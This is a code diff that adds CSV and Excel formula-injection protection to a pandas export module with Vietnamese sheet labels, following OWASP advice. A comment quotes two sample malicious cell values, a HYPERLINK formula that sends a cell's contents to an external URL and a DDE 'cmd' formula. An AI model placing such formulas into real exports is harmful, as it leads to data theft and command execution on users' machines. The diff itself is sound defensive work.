@@ -468,18 +468,46 @@ def sources_frame(sources: pd.DataFrame, lang: str) -> pd.DataFrame:
     return out.rename(columns={c: t(k, lang) for c, k in SOURCE_COLUMNS})
 
 
+# NOTE: OWASP "CSV injection": a spreadsheet runs text that begins with one of these as a
+# formula — a row label, a sheet name or an uploaded file name such as
+# =HYPERLINK("http://…?"&K2,"Chi tiết") or =cmd|' /c calc'!A0 would reach a planner's computer live.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _inert(v):
+    return "'" + v if isinstance(v, str) and v.startswith(FORMULA_START) else v
+
+
+def neutralized(frame: pd.DataFrame) -> pd.DataFrame:
+    """The frame with every text cell (and column name) that a spreadsheet would run as a formula
+    prefixed with an apostrophe, as OWASP advises; numbers stay numbers."""
+    out = frame.rename(columns=_inert)
+    for col in out.columns:
+        if not (pd.api.types.is_numeric_dtype(out[col]) or pd.api.types.is_datetime64_any_dtype(out[col])):
+            out[col] = out[col].map(_inert)
+    return out
+
+
 def csv_bytes(frame: pd.DataFrame) -> bytes:
-    """CSV that Excel opens as UTF-8 (a BOM first), plain numbers with a dot decimal."""
-    return frame.to_csv(index=False).encode("utf-8-sig")
+    """CSV that Excel opens as UTF-8 (a BOM first), plain numbers with a dot decimal, formulas inert.
+    Every CSV download of the product goes through here."""
+    return neutralized(frame).to_csv(index=False).encode("utf-8-sig")
 
 
 def excel_bytes(facts: pd.DataFrame, sources: pd.DataFrame, lang: str) -> bytes:
-    """An .xlsx with the facts sheet ('Số liệu') and the sources sheet ('Nguồn')."""
+    """An .xlsx with the facts sheet ('Số liệu') and the sources sheet ('Nguồn'). Text is always a
+    text cell, never a formula (openpyxl would store any text beginning with "=" as one), and
+    marked quote-prefixed so that Excel keeps it text even when the cell is edited."""
     buf = io.BytesIO()
     with pd.ExcelWriter(buf, engine="openpyxl") as xw:
         for frame, name in ((facts, t("dx_sheet_facts", lang)), (sources, t("dx_sheet_sources", lang))):
             frame.to_excel(xw, sheet_name=name, index=False)
             ws = xw.sheets[name]
+            for row in ws.iter_rows():
+                for cell in row:
+                    if isinstance(cell.value, str) and (cell.data_type == "f" or cell.value.startswith(FORMULA_START)):
+                        cell.data_type = "s"
+                        cell.quotePrefix = True
             ws.freeze_panes = "A2"
             for i, col in enumerate(frame.columns, start=1):
                 longest = max([len(str(col))] + [len(str(v)) for v in frame[col].head(200)])
